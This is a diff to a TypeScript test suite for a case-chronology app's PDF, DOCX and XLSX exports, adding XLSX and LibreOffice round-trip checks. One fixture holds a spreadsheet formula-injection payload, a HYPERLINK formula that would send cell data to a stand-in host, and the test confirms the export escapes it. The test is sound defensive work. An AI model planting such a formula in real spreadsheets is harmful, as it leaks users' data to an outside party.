@@ -1,13 +1,13 @@
 import JSZip from 'jszip';
-import { execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { AuditEntry } from '../src/audit/audit-entry.entity';
 import { Case } from '../src/cases/case.entity';
 import { makeCase, makeDefender } from './factories/cases';
 import { makeEvent, makeHearing } from './factories/entries';
-import { bodyBytes, pdfToText, rawBody } from './support/chronology-readers';
+import { bodyBytes, csvRows, pdfToText, rawBody, xlsxRows } from './support/chronology-readers';
 import { bearer, startTestApp, TestApp, TestUser } from './support/test-app';
 import { signInToWeb } from './support/web-session';
 
@@ -20,6 +20,34 @@ const ORGANISATION = {
   name: 'Kashmir Rights Collective',
   contact: 'advocacy@krc.example.org · +44 20 7946 0000',
 };
+
+// LibreOffice is not installed by CI (it is large); where a developer has it, the files are opened by it too.
+const SOFFICE = ['soffice', 'libreoffice'].find((command) => spawnSync('which', [command]).status === 0);
+const withLibreOffice = SOFFICE ? it : it.skip;
+
+/** The file converted by LibreOffice headless, read back as UTF-8 text. */
+function libreOfficeConvert(file: Buffer, extension: string, to: string, resultExtension: string): string {
+  const directory = mkdtempSync(join(tmpdir(), 'vigil-soffice-'));
+  try {
+    writeFileSync(join(directory, `export.${extension}`), file);
+    execFileSync(
+      SOFFICE ?? 'soffice',
+      [
+        `-env:UserInstallation=file://${directory}/profile`,
+        '--headless',
+        '--convert-to',
+        to,
+        '--outdir',
+        directory,
+        join(directory, `export.${extension}`),
+      ],
+      { timeout: 120_000 },
+    );
+    return readFileSync(join(directory, `export.${resultExtension}`), 'utf8');
+  } finally {
+    rmSync(directory, { recursive: true, force: true });
+  }
+}
 
 async function docxParts(docx: Buffer): Promise<Record<string, string>> {
   const zip = await JSZip.loadAsync(docx);
@@ -86,6 +114,12 @@ describe('PDF and DOCX exports', () => {
       status: 'held',
       outcome: 'Custody extended by 50 days.',
       outcomeRecordedAt: new Date('2022-01-21T12:00:00Z'),
+    });
+    await makeEvent(t.dataSource, nia, {
+      occurredOn: '2020-10-01',
+      precision: 'month',
+      type: 'statement',
+      description: '=HYPERLINK("http://evil.example/?"&A1,"x") Хуррам задержан; اعتقل في صنعاء',
     });
     // Enough entries for more than one page in both formats.
     for (let day = 1; day <= 60; day += 1) {
@@ -248,4 +282,64 @@ describe('PDF and DOCX exports', () => {
       expect(flat).not.toContain('Vigil');
     });
   });
+
+  describe('XLSX, read back with exceljs and through its XML', () => {
+    it('has the CSV’s rows, dates as date cells beside date_text, text intact and never a formula', async () => {
+      const xlsx = await download('format=xlsx&lang=ru');
+      const rows = await xlsxRows(xlsx);
+      const csv = csvRows(await download('format=csv&lang=ru'));
+      expect(rows).toHaveLength(csv.length);
+      // Every cell the CSV has, the same; the date as a date.
+      rows.forEach((row, index) => {
+        const { date, ...rest } = row;
+        const { date: csvDate, ...csvRest } = csv[index];
+        expect(date).toBeInstanceOf(Date);
+        expect((date as Date).toISOString().slice(0, 10)).toBe(csvDate);
+        expect(Object.fromEntries(Object.entries(rest).map(([key, value]) => [key, String(value)]))).toEqual(
+          csvRest,
+        );
+      });
+      const statement = rows.find((row) => String(row.text).includes('HYPERLINK'));
+      expect(statement).toMatchObject({
+        precision: 'month',
+        date_text: 'октябрь 2020 г.',
+        text: `'=HYPERLINK("http://evil.example/?"&A1,"x") Хуррам задержан; اعتقل في صنعاء`,
+      });
+      expect((statement?.date as Date).toISOString()).toBe('2020-10-01T00:00:00.000Z');
+
+      // The XML itself: no formula anywhere, the date column a number with a date format.
+      const zip = await JSZip.loadAsync(xlsx);
+      const sheet = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
+      expect(sheet).not.toMatch(/<f[ >]/);
+      const dateCell = /<c r="A2"[^>]*>/.exec(sheet)?.[0] ?? '';
+      expect(dateCell).not.toContain('t="s"');
+      const styles = (await zip.file('xl/styles.xml')?.async('string')) ?? '';
+      expect(styles).toContain('formatCode="yyyy-mm-dd"');
+      const core = (await zip.file('docProps/core.xml')?.async('string')) ?? '';
+      expect(core).toContain(`<dc:creator>${ORGANISATION.name}</dc:creator>`);
+    });
+  });
+
+  withLibreOffice(
+    `opens the DOCX and the XLSX in LibreOffice headless${SOFFICE ? '' : ' (skipped: soffice is not installed here)'}`,
+    async () => {
+      const text = libreOfficeConvert(
+        await download('format=docx&lang=ru'),
+        'docx',
+        'txt:Text (encoded):UTF8',
+        'txt',
+      );
+      expect(text).toContain('Хуррам задержан');
+      // 44,34,76: comma-separated, double quotes, UTF-8.
+      const csv = libreOfficeConvert(
+        await download('format=xlsx&lang=ru'),
+        'xlsx',
+        'csv:Text - txt - csv (StarCalc):44,34,76',
+        'csv',
+      );
+      expect(csv).toContain('Хуррам задержан; اعتقل في صنعاء');
+      expect(csv).toContain('2020-10-01');
+    },
+    180_000,
+  );
 });
